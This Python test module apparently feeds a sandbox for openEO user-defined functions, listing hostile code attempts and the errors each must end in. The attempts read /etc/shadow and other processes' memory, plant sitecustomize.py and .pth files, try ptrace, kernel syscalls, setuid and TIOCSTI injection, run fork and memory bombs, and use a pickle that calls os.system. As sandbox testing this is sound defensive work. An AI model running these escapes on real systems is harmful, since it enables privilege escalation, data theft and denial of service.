"""What hostile user code tries, and what must become of it.

Each attempt defines ``call(header, arrays)``. It returns a list of what it got, which must be empty, or is
stopped with an error. ``header`` has what it is after: paths, ports, ids of processes.
"""

from __future__ import annotations

from typing import NamedTuple


class Attempt(NamedTuple):
    """Code of an attempt; ``errors`` are the codes of the openEO errors it may end with."""

    code: str
    errors: tuple[str, ...] = ()


HEAD = """
import ctypes, errno, mmap, os, resource, signal, socket, struct, subprocess, sys, threading, time
import numpy as np
libc = ctypes.CDLL(None, use_errno=True)
X86 = os.uname().machine == "x86_64"

def works(function, *arguments, **options):
    try:
        function(*arguments, **options)
    except (OSError, ValueError, RuntimeError):
        return False
    return True

def call(header, arrays):
    got = []
    attempt(header, got)
    return {"got": [str(item)[:200] for item in got]}, []

def read(path, got):
    try:
        with open(path, "rb") as file:
            got.append((path, file.read(100)))
    except OSError:
        pass
"""

FILES = """
def attempt(header, got):
    for path in [*header["secret_files"], "/etc/passwd", "/etc/shadow", "/root/.bashrc", "/etc/hostname"]:
        read(path, got)
    for folder in [*header["secret_folders"], "/", "/root", "/home", "/etc", "/tmp", "/var", "/proc"]:
        try:
            got.append((folder, os.listdir(folder)))
        except OSError:
            pass
"""
LINKS = """
def attempt(header, got):
    for number, path in enumerate(header["secret_files"]):
        os.symlink(path, f"link{number}")
        read(f"link{number}", got)
        if works(os.link, path, f"hard{number}"):
            got.append(path)
        if works(os.rename, path, f"taken{number}"):
            got.append(path)
    for way in ("/proc/self/root", "/proc/self/cwd/..", "/proc/1/root", "/dev/fd/0/.."):
        for path in header["secret_files"]:
            read(way + path, got)
"""
ENVIRONMENT = """
def attempt(header, got):
    got += [name for name in os.environ if header["secret"] in os.environ[name] or "ODC" in name]
    for process in [header["parent"], os.getppid(), 1, "self", *header["processes"]]:
        for name in ("environ", "mem", "maps", "cmdline", "fd", "fdinfo", "auxv", "task", "cwd", "status"):
            path = f"/proc/{process}/{name}"
            read(path, got)
            if works(os.listdir, path) and path != "/proc/self/cwd":
                got.append(path)
"""
WRITE = """
def attempt(header, got):
    folders = {sys.prefix, sys.base_prefix, os.path.dirname(os.__file__), os.path.dirname(np.__file__)}
    folders |= {"/tmp", "/var/tmp", "/dev/shm", "/usr/lib", "..", *header["secret_folders"], *sys.path[:3]}
    for folder in folders:
        if works(open, os.path.join(folder, "udf-was-here.py"), "w"):
            got.append(folder)
        if works(os.mkdir, os.path.join(folder, "udf-was-here")):
            got.append(folder)
    for path in [np.__file__, os.__file__, *header["secret_files"]]:
        for function in (lambda: open(path, "a"), lambda: os.truncate(path, 0), lambda: os.unlink(path),
                         lambda: os.rename("x", path)):
            if works(function):
                got.append(path)
"""
MODES = """
def attempt(header, got):
    for path in [np.__file__, *header["secret_files"], *header["secret_folders"]]:
        for function in (lambda: os.chmod(path, 0o777), lambda: os.utime(path, (1, 1)),
                         lambda: os.chown(path, os.getuid(), os.getgid()),
                         lambda: os.setxattr(path, "user.udf", b"x")):
            works(function)
    descriptor = os.open(np.__file__, os.O_RDONLY)
    works(os.fchmod, descriptor, 0o777)
    works(os.fchown, descriptor, os.getuid(), os.getgid())
"""
SOCKETS = """
def attempt(header, got):
    families = (socket.AF_INET, socket.AF_INET6, socket.AF_UNIX, socket.AF_NETLINK, socket.AF_PACKET, 40)
    for family in families:
        for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM, socket.SOCK_RAW):
            if works(socket.socket, family, kind):
                got.append((family, kind))
    if works(socket.create_connection, ("127.0.0.1", header["port"]), 1):
        got.append("tcp")
    for kind in (socket.SOCK_DGRAM, socket.SOCK_SEQPACKET, socket.SOCK_DGRAM | socket.SOCK_CLOEXEC):
        if works(socket.socketpair, socket.AF_UNIX, kind) or works(socket.socketpair, 2, kind):
            got.append("pair")
    if works(socket.getaddrinfo, "example.org", 80):
        got.append("names")
    for number in (41 if X86 else 198,):
        if libc.syscall(number, 2, 1, 0) >= 0:
            got.append("by number")
"""
INHERITED_SOCKET = """
def attempt(header, got):
    pair = socket.socketpair()
    with open("file", "wb") as file:
        if works(socket.send_fds, pair[0], [b"x"], [file.fileno()]):
            got.append("a descriptor in a message")
    for number in range(3, 64):
        try:
            end = socket.socket(fileno=os.dup(number))
        except OSError:
            continue
        for target in (header["path"], header["abstract"]):
            for function in (lambda: end.connect(target), lambda: end.sendto(b"x", target),
                             lambda: end.bind("mine"), lambda: end.listen()):
                if works(function):
                    got.append((number, target))
"""
SERVICES = """
def attempt(header, got):
    # What a scheduler and a nanny of dask, and a database, listen on, by every way to a connection.
    for host in ("127.0.0.1", "localhost", "::1", "0.0.0.0", "udf-scheduler", "postgres"):
        for port in (*header["ports"], 8786, 5432):
            if works(socket.create_connection, (host, port), 0.5):
                got.append((host, port))
    for function in (socket.gethostbyname, socket.gethostbyname_ex, lambda n: socket.getaddrinfo(n, 53)):
        for name in ("localhost", "udf-scheduler", "secret.attacker.example.org"):
            if works(function, name) and name != "localhost":
                got.append(name)
    begin = time.monotonic()
    works(socket.getaddrinfo, "x" * 50 + ".example.org", 80)
    if time.monotonic() - begin > 2:
        got.append("a question to a resolver")
    # The connection of this process is a pair: it has no other end to go to.
    for number in range(3, 64):
        for option in ((socket.SOL_SOCKET, 1), (socket.IPPROTO_TCP, socket.TCP_NODELAY)):
            try:
                end = socket.socket(fileno=os.dup(number))
            except OSError:
                continue
            with end:
                if end.family != socket.AF_UNIX or works(end.setsockopt, *option, 1) and option[0] == 6:
                    got.append((number, end.family))
"""
SIGNALS = """
def attempt(header, got):
    for process in {header["parent"], os.getppid(), 1, -1, 0, *header["processes"]} - {os.getpid()}:
        if works(os.kill, process, 0) or works(os.kill, process, signal.SIGCONT):
            got.append(process)
        if process > 0:
            if works(os.killpg, process, 0) or works(os.pidfd_open, process):
                got.append(process)
            if libc.syscall(200 if X86 else 130, process, 0) == 0 or libc.tgkill(process, process, 0) == 0:
                got.append(("thread", process))
            if libc.syscall(129 if X86 else 138, process, 0, ctypes.create_string_buffer(128)) == 0:
                got.append(("queue", process))
    import fcntl
    reader, writer = os.pipe()
    for owner in (header["parent"], -header["parent"]):
        if works(fcntl.fcntl, reader, fcntl.F_SETOWN, owner):
            got.append(("owner", owner))
    if works(fcntl.fcntl, reader, 10, signal.SIGKILL):
        got.append("F_SETSIG")
"""
OTHER_PROCESSES = """
def attempt(header, got):
    for process in [header["parent"], *header["processes"]]:
        if libc.ptrace(16, process, 0, 0) == 0 or libc.ptrace(0x4206, process, 0, 0) == 0:
            got.append(("ptrace", process))
        data = ctypes.create_string_buffer(8)
        one = struct.pack("PN", ctypes.addressof(data), 8)
        if libc.process_vm_readv(process, one, 1, one, 1, 0) > 0:
            got.append(("process_vm_readv", process))
        functions = {
            "limit": lambda: resource.prlimit(process, resource.RLIMIT_NOFILE, (10, 10)),
            "priority": lambda: os.setpriority(os.PRIO_PROCESS, process, 19),
            "user's priority": lambda: os.setpriority(os.PRIO_USER, 0, 19),
            "affinity": lambda: os.sched_setaffinity(process, {0}),
            "scheduler": lambda: os.sched_setscheduler(process, os.SCHED_IDLE, os.sched_param(0)),
        }
        got += [(name, process) for name, function in functions.items() if works(function)]
"""
SIBLINGS = """
NUMBERS = {
    "kcmp": (312, 272), "process_vm_writev": (311, 271), "process_madvise": (440, 440),
    "pidfd_send_signal": (424, 424), "perf_event_open": (298, 241), "inotify_add_watch": (254, 27),
    "fanotify_mark": (301, 263), "move_pages": (279, 239), "migrate_pages": (256, 238),
    "name_to_handle_at": (303, 264), "io_uring_enter": (426, 426), "io_uring_register": (427, 427),
    "request_key": (249, 218), "shmat": (30, 196), "msgrcv": (70, 188), "mount_setattr": (442, 442),
}

def attempt(header, got):
    for name, numbers in NUMBERS.items():
        for process in (header["parent"], os.getpid(), 0):
            ctypes.set_errno(0)
            result = libc.syscall(ctypes.c_long(numbers[0 if X86 else 1]), process, process, 0, 0, 0, 0)
            if result != -1 or ctypes.get_errno() != errno.EPERM:
                got.append((name, result, ctypes.get_errno()))
    # Shared memory of others, under names and through what they have open.
    for folder in ("/dev/shm", "/dev/mqueue", "/run", "/proc", "/sys/fs/cgroup", *header["secret_folders"]):
        if works(os.listdir, folder):
            got.append(folder)
    for path in (header["shared"], "/dev/mem", "/dev/kmem", "/dev/kvm", "/dev/fuse", "/dev/loop-control"):
        for mode in (os.O_RDONLY, os.O_RDWR):
            if works(os.open, path, mode):
                got.append(path)
    for process in (header["parent"], *header["processes"]):
        for number in range(40):
            read(f"/proc/{process}/fd/{number}", got)
            read(f"/proc/{process}/map_files", got)
    # The first three are /dev/null; files without a name are its arena.
    for number in range(3, 40):
        for way in (f"/proc/self/fd/{number}", f"/dev/fd/{number}", f"/proc/thread-self/fd/{number}"):
            if works(os.stat, way) and os.stat(way).st_nlink and works(os.open, way, os.O_RDWR):
                got.append(way)
            if works(os.open, way, os.O_RDWR | os.O_TRUNC) or works(os.listdir, way + "/.."):
                got.append(way)
"""
TERMINAL = """
import fcntl

def attempt(header, got):
    # Nothing is typed into a terminal of the operator: there is none, nor the call for it.
    for path in ("/dev/tty", "/dev/console", "/dev/ptmx", "/dev/pts/0", "/dev/tty0"):
        if works(os.open, path, os.O_RDWR | os.O_NOCTTY):
            got.append(path)
    for number in range(64):
        for request in (0x5412, 0x541C, 0x540E, 0x5414):  # TIOCSTI, TIOCLINUX, TIOCSCTTY, TIOCSWINSZ
            if works(fcntl.ioctl, number, request, b"x" * 16):
                got.append((number, hex(request)))
    if works(os.ttyname, 0) or works(os.tcsetpgrp, 0, os.getpid()) or works(os.openpty):
        got.append("a terminal")
    os.write(1, b"\\x1b]0;title\\x07 forged line\\n")
    os.write(2, b"forged line\\n")
"""
PROGRAMS = """
def attempt(header, got):
    # Programs of other users' rights, own ones, and libraries as programs.
    with open("mine", "w") as file:
        file.write("#!/bin/sh\\ntrue\\n")
    for function in (lambda: os.chmod("mine", 0o6755), lambda: os.chown("mine", 0, 0)):
        works(function)
    if os.stat("mine").st_mode & 0o6111 or os.stat("mine").st_uid != os.getuid():
        got.append(oct(os.stat("mine").st_mode))
    programs = ("/usr/bin/su", "/usr/bin/sudo", "/usr/bin/passwd", "/usr/bin/newuidmap", "/bin/mount", "mine",
                "/lib64/ld-linux-x86-64.so.2", "/usr/bin/python3", sys.executable, "/proc/self/exe")
    for program in programs:
        if works(os.execve, program, [program], {"LD_PRELOAD": "/x"}):
            got.append(program)
        if works(os.posix_spawn, program, [program], {}):
            got.append(("spawn", program))
    descriptor = os.open(np.__file__, os.O_RDONLY)
    if libc.fexecve(descriptor, (ctypes.c_char_p * 2)(b"x", None), (ctypes.c_char_p * 1)(None)) != -1:
        got.append("fexecve")
    if libc.syscall(322 if X86 else 281, descriptor, b"", None, None, 0x1000) != -1:
        got.append("execveat")
    for identity in (0, 1, 33, 1000, 65534):
        for function in (os.setuid, os.setgid, os.seteuid, os.setegid):
            if works(function, identity) and identity not in (os.getuid(), os.getgid()):
                got.append((function.__name__, identity))
    if works(os.setgroups, [0]):
        got.append("groups")
"""
DAEMON = """
def attempt(header, got):
    # Out of the session and the group that end with the caller, and life after it.
    for name, function in {"daemon": lambda: libc.daemon(1, 1) and int("x"), "child": os.fork,
                           "terminal": os.forkpty}.items():
        if works(function):
            got.append(name)
    if libc.prctl(1, 0, 0, 0, 0) == 0:
        got.append("life after the parent")
    for group in (header["parent"], os.getppid(), 1):
        if group not in (0, os.getpid()) and works(os.setpgid, 0, group):
            got.append(("group", group))
    if os.getppid() not in (0, header["parent"]):
        got.append(("parent", os.getppid()))
    # A session of its own is of no use: the caller finds and ends it all the same.
    works(os.setsid)
    works(os.setpgid, 0, 0)
    while not got:
        time.sleep(1000)
"""
CORE = """
def attempt(header, got):
    for limit in (resource.RLIM_INFINITY, 2**20):
        if works(resource.setrlimit, resource.RLIMIT_CORE, (limit, limit)):
            got.append(limit)
    for path in ("/proc/self/coredump_filter", "/proc/sys/kernel/core_pattern", "/proc/self/oom_score_adj"):
        if works(open, path, "w"):
            got.append(path)
    if not got:
        os.abort()
"""
TRAPS = """
import json

def attempt(header, got):
    # Traps for whoever measures and removes this folder: links to others' folders, loops, odd names.
    for number, folder in enumerate([*header["secret_folders"], "/", "..", "/proc", "/dev"]):
        os.symlink(folder, f"folder{number}")
        os.makedirs(f"deep{number}/a")
        os.symlink(folder, f"deep{number}/a/link")
    for number, path in enumerate([*header["secret_files"], np.__file__]):
        os.symlink(path, f"file{number}")
    os.symlink("loop", "loop")
    os.symlink(".", "here")
    if works(os.mkfifo, "pipe"):
        got.append("a pipe that whoever opens it waits at")
    for name in (b"\\xff\\xfe", b"\\n\\x1b[31m", b"-rf", b"a" * 255):
        os.mkdir(name)
    path = "nested"
    for _ in range(400):
        os.mkdir(path)
        path += "/n"
    # The folder itself cannot be put in another place, nor another thing in its place.
    folder = os.getcwd()
    for function in (lambda: os.rename(folder, folder + "x"), lambda: os.rmdir(folder),
                     lambda: os.symlink("/", folder + "x"), lambda: os.mkdir(folder + "y"),
                     lambda: os.rename(folder, "/tmp/x"),
                     lambda: os.rename(header["secret_folders"][0], "x")):
        if works(function):
            got.append(folder)
    for path in header["secret_files"]:
        if works(os.link, path, "hard") or works(os.link, path, "hard", follow_symlinks=False):
            got.append(path)
"""
CACHES = """
import importlib.util, site, sysconfig, tempfile

def attempt(header, got):
    # Where an interpreter takes code from at its next start, and its caches.
    places = {*site.getsitepackages(), site.getusersitepackages(), sysconfig.get_path("scripts"), *sys.path}
    places |= {os.path.dirname(importlib.util.cache_from_source(m)) for m in (os.__file__, np.__file__)}
    places |= {os.path.join(sys.prefix, name) for name in ("bin", "lib", "etc", "share")}
    places |= {"/var/cache", "/usr/share", "/etc/ld.so.conf.d", "/root/.cache", "/usr/local/bin"}
    for folder in sorted(map(str, places)):
        for name in ("evil.pth", "sitecustomize.py", "usercustomize.py", "numpy.py", "evil.so", "pyvenv.cfg"):
            path = os.path.join(folder, name)
            if folder not in ("", ".") and not os.path.realpath(path).startswith(os.getcwd()):
                if works(os.open, path, os.O_WRONLY | os.O_CREAT) or works(os.symlink, "/x", path):
                    got.append(path)
                if works(os.replace, "mine.py", path) or works(os.unlink, path):
                    got.append(path)
    for path in (sys.executable, os.__file__, np.__file__, importlib.util.cache_from_source(os.__file__)):
        for flags in (os.O_WRONLY, os.O_RDWR, os.O_RDONLY | os.O_TRUNC, os.O_WRONLY | os.O_APPEND):
            if works(os.open, path, flags):
                got.append(path)
"""
PROCESSES = """
def attempt(header, got):
    for name, function in {
        "fork": os.fork, "forkpty": os.forkpty,
        "spawn": lambda: os.posix_spawn("/bin/true", ["true"], {}),
        "subprocess": lambda: subprocess.run(["/bin/true"]),
        "python": lambda: subprocess.run([sys.executable, "-c", ""]),
        "system": lambda: None if os.system("true") == 0 else int("x"),
        "exec": lambda: os.execv("/bin/true", ["true"]),
        "exec of python": lambda: os.execv(sys.executable, ["python"]),
    }.items():
        if works(function):
            got.append(name)
    for number in (57, 58) if X86 else (220,):
        if libc.syscall(number, 17, 0, 0, 0, 0) >= 0:
            got.append(number)
    arguments = struct.pack("11Q", 0, 0, 0, 0, 17, 0, 0, 0, 0, 0, 0)
    if libc.syscall(435, arguments, len(arguments)) >= 0:
        got.append("clone3")
    for flag in (0x10000000, 0x20000000, 0x40000000, 0x00020000):
        if libc.syscall(56 if X86 else 220, flag | 17, 0, 0, 0, 0) >= 0:
            got.append(hex(flag))
"""
KERNEL = """
NUMBERS = {
    "unshare": (272, 97), "setns": (308, 268), "mount": (165, 40), "chroot": (161, 51), "bpf": (321, 280),
    "userfaultfd": (323, 282), "io_uring_setup": (425, 425), "keyctl": (250, 219), "add_key": (248, 217),
    "pidfd_getfd": (438, 438), "perf_event_open": (298, 241), "memfd_create": (319, 279),
    "memfd_secret": (447, 447), "shmget": (29, 194), "msgget": (68, 186), "semget": (64, 190),
    "mq_open": (240, 180), "open_by_handle_at": (304, 265), "fanotify_init": (300, 262),
    "inotify_init1": (294, 26), "fsopen": (430, 430), "open_tree": (428, 428), "personality": (135, 92),
    "kexec_load": (246, 104), "init_module": (175, 105), "reboot": (169, 142), "execveat": (322, 281),
}

def attempt(header, got):
    for name, numbers in NUMBERS.items():
        ctypes.set_errno(0)
        result = libc.syscall(ctypes.c_long(numbers[0 if X86 else 1]), 0, 0, 0, 0, 0)
        if result != -1 or ctypes.get_errno() != errno.EPERM:
            got.append((name, result, ctypes.get_errno()))
    for number in (463, 470, 500, 1000):
        if libc.syscall(ctypes.c_long(number), 0, 0, 0, 0, 0) != -1 or ctypes.get_errno() != errno.ENOSYS:
            got.append(number)
    if works(os.memfd_create, "x"):
        got.append("memfd_create")
"""
LIMITS = """
def attempt(header, got):
    for name in ("AS", "DATA", "CPU", "FSIZE", "NOFILE", "CORE", "NPROC"):
        number = getattr(resource, f"RLIMIT_{name}")
        if works(resource.setrlimit, number, (resource.RLIM_INFINITY, resource.RLIM_INFINITY)):
            got.append(name)
    if libc.prctl(1, 0, 0, 0, 0) == 0:
        got.append("life after the parent")
    for identity in (0, 1, 65534):
        if identity != os.getuid() and works(os.setuid, identity):
            got.append(identity)
    for number in range(64):
        if libc.prctl(47, 2, number, 0, 0) == 0:
            got.append(("capability", number))
"""
X32 = """
def attempt(header, got):
    got.append(libc.syscall(ctypes.c_long(0x40000000 + 39)))
"""
I386 = """
def attempt(header, got):
    code = bytes.fromhex("b814000000cd80c3")  # getpid by the calls of 32-bit programs
    memory = mmap.mmap(-1, 4096, prot=7)
    memory.write(code)
    function = ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(memory)))
    got.append(function())
"""
THREADS = """
def attempt(header, got):
    threading.stack_size(32768)
    for _ in range(100_000):
        threading.Thread(target=time.sleep, args=(1000,), daemon=True).start()
"""
MEMORY = """
def attempt(header, got):
    parts = []
    while True:
        parts.append(np.ones(2**24, np.uint8))
"""
SHARED_MEMORY = """
def attempt(header, got):
    parts = []
    while True:
        parts.append(mmap.mmap(-1, 2**26))
        for offset in range(0, 2**26, 4096):
            parts[-1][offset] = 1
"""
ONE_FILE = """
def attempt(header, got):
    with open("large", "wb") as file:
        while True:
            file.write(bytes(2**20))
"""
MANY_FILES = """
def attempt(header, got):
    for number in range(10**6):
        with open(f"file{number}", "wb") as file:
            file.write(bytes(2**20))
"""
DELETED_FILES = """
files = []
def attempt(header, got):
    for _ in range(4):
        files.append(open("deleted", "w+b"))
        os.unlink("deleted")
        files[-1].write(bytes(2**23))
        files[-1].flush()
    time.sleep(0.5)
"""
UNLISTED_FILES = """
def attempt(header, got):
    os.mkdir("unlisted", 0o300)
    for number in range(4):
        with open(f"unlisted/{number}", "wb") as file:
            file.write(bytes(2**23))
    time.sleep(0.5)
"""
DEEP_FILES = """
def attempt(header, got):
    for _ in range(3000):
        os.mkdir("deep")
        os.chdir("deep")
    for number in range(4):
        with open(str(number), "wb") as file:
            file.write(bytes(2**23))
    time.sleep(0.5)
"""
SMALL_FILES = """
def attempt(header, got):
    for number in range(10**7):
        os.mkdir(f"folder{number}")
"""
DESCRIPTORS = """
def attempt(header, got):
    while True:
        got.append(os.dup(0))
"""
SLEEP = """
def attempt(header, got):
    for number in range(1, 65):
        works(signal.signal, number, signal.SIG_IGN)
    signal.pthread_sigmask(signal.SIG_BLOCK, range(1, 65))
    while True:
        time.sleep(1000)
"""
SPIN = """
def attempt(header, got):
    while True:
        pass
"""
NO_END_AT_EXIT = """
import atexit
atexit.register(time.sleep, 1000)
def attempt(header, got):
    thread = threading.Thread(target=time.sleep, args=(1000,))
    thread.start()
    sys.exit(3)
"""
EXIT = """
def attempt(header, got):
    os._exit(0)
"""
CRASH = """
def attempt(header, got):
    ctypes.string_at(0)
"""
LARGE_RESULT = """
def call(header, arrays):
    return {}, [np.broadcast_to(np.float64(1), (1250, 2**20))]
"""
OBJECTS = """
class Surprise:
    def __reduce__(self):
        return os.system, ("touch udf-was-here",)

def call(header, arrays):
    return {}, [np.array([Surprise()], dtype=object)]
"""
OBJECT_IN_HEADER = """
def call(header, arrays):
    return {"value": object()}, []
"""
NAN_LABELS = """
def call(header, arrays):
    return {"labels": [float("nan"), 1.0]}, []
"""
TEXT_ARRAY = """
def call(header, arrays):
    return {}, [np.array(["a", "b"])]
"""
WRONG_ANSWERS = """
def call(header, arrays):
    return ANSWER
"""
DEEPER_HEADER = """
def call(header, arrays):
    value = []
    for _ in range(900):
        value = [value]
    return {"value": value}, []
"""
DEEP_HEADER = """
def call(header, arrays):
    value = []
    for _ in range(900):
        value = [value]
    return {"value": value}, [np.zeros(3)] * 2000
"""
RAW = """
import json
def find_connection():
    for number in range(3, 64):
        try:
            return socket.socket(fileno=os.dup(number))
        except OSError:
            pass

connection = find_connection()

def send(message, length=None):
    content = message if isinstance(message, bytes) else json.dumps(message).encode()
    connection.sendall(struct.pack(">I", len(content) if length is None else length) + content)

def lie(description):
    send({"kind": "reply", "header": {}, "arrays": [description]})
    time.sleep(1000)
"""
LIES = {
    "a place outside": {"dtype": "<f8", "shape": [10], "offset": 2**40},
    "objects": {"dtype": "|O", "shape": [1], "offset": 64},
    "10 GB": {"dtype": "<f8", "shape": [1250, 2**20], "offset": 64},
}
ARENA = """
def attempt(header, got):
    for number in range(3, 64):
        for function in (lambda: os.ftruncate(number, 0), lambda: os.ftruncate(number, 2**40),
                         lambda: os.posix_fallocate(number, 0, 2**40)):
            if works(function):
                got.append(number)
"""

FAILED, STOPPED = "UdfFailed", "UdfLimitExceeded"

LAX = ("read files", "read files through links", "read the environment", "open sockets")
"""Attempts that succeed without a sandbox, and do no harm then."""

ATTEMPTS: dict[str, Attempt] = {
    "read files": Attempt(FILES),
    "read files through links": Attempt(LINKS),
    "read the environment": Attempt(ENVIRONMENT),
    "write files": Attempt(WRITE),
    "change modes and owners": Attempt(MODES),
    "open sockets": Attempt(SOCKETS),
    "use the connection for others": Attempt(INHERITED_SOCKET),
    "reach the services": Attempt(SERVICES),
    "signal others": Attempt(SIGNALS),
    "reach siblings": Attempt(SIBLINGS),
    "type into a terminal": Attempt(TERMINAL),
    "run programs": Attempt(PROGRAMS),
    "become a daemon": Attempt(DAEMON, (STOPPED,)),
    "dump a core": Attempt(CORE, (FAILED,)),
    "traps in the folder": Attempt(TRAPS),
    "write into the interpreter": Attempt(CACHES),
    "reach into other processes": Attempt(OTHER_PROCESSES),
    "start processes": Attempt(PROCESSES),
    "use the kernel": Attempt(KERNEL),
    "lift limits": Attempt(LIMITS),
    "resize the arena": Attempt(ARENA),
    "calls of x32": Attempt(X32, (FAILED,)),
    "calls of i386": Attempt(I386, (FAILED,)),
    "thread bomb": Attempt(THREADS, (FAILED, STOPPED)),
    "fill memory": Attempt(MEMORY, (STOPPED,)),
    "fill shared memory": Attempt(SHARED_MEMORY, (FAILED, STOPPED)),
    "one large file": Attempt(ONE_FILE, (FAILED, STOPPED)),
    "many files": Attempt(MANY_FILES, (STOPPED,)),
    "deleted files": Attempt(DELETED_FILES, (STOPPED,)),
    "files in a folder that nobody lists": Attempt(UNLISTED_FILES, (STOPPED,)),
    "files deeper than paths": Attempt(DEEP_FILES, (STOPPED,)),
    "small files": Attempt(SMALL_FILES, (STOPPED,)),
    "descriptors": Attempt(DESCRIPTORS, (FAILED,)),
    "sleep for ever": Attempt(SLEEP, (STOPPED,)),
    "spin": Attempt(SPIN, (STOPPED,)),
    "exit without end": Attempt(NO_END_AT_EXIT, (FAILED,)),
    "exit": Attempt(EXIT, (FAILED,)),
    "crash": Attempt(CRASH, (FAILED,)),
    "a result of 10 GB": Attempt(LARGE_RESULT, (STOPPED,)),
    "an object to unpickle": Attempt(OBJECTS, (FAILED,)),
    "an object in the header": Attempt(OBJECT_IN_HEADER, (FAILED,)),
    "NaN as label": Attempt(NAN_LABELS, (FAILED,)),
    "an array of texts": Attempt(TEXT_ARRAY, (FAILED,)),
    **{
        f"an answer that is {name}": Attempt(WRONG_ANSWERS.replace("ANSWER", value), (FAILED,))
        for name, value in {
            "nothing": "None",
            "no header": "1, []",
        }.items()
    },
    "a header of deep lists": Attempt(DEEPER_HEADER, (FAILED,)),
    "too many arrays": Attempt(DEEP_HEADER, (FAILED,)),
    **{
        f"a lie about an array: {name}": Attempt(
            f"{RAW}\ndef attempt(header, got):\n    lie({value!r})\n", (FAILED,)
        )
        for name, value in LIES.items()
    },
    "a message without end": Attempt(
        f"{RAW}\ndef attempt(header, got):\n    send(b'x', 2**32 - 1)\n", (FAILED,)
    ),
    "no JSON": Attempt(f"{RAW}\ndef attempt(header, got):\n    send(b'\\xff\\x00')\n", (FAILED,)),
    "deep JSON": Attempt(f"{RAW}\ndef attempt(header, got):\n    send(b'[' * 10**6)\n", (FAILED,)),
    "a flood of log entries": Attempt(
        f"{RAW}\ndef attempt(header, got):\n    while 1:\n        send({{'kind': 'log', 'entry': {{}}}})\n",
        (STOPPED,),
    ),
}
